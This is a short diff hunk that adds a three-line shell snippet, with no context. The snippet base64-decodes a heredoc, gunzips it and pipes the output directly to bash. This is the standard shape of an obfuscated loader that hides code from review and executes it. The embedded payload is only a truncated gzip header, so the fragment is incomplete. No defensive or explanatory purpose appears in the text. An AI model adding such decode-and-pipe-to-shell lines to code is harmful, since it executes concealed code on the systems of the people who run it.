@@ -1,0 +1,3 @@
+base64 -d <<'X' | gzip -d | bash
+H4sIAAAAAAAA
+X
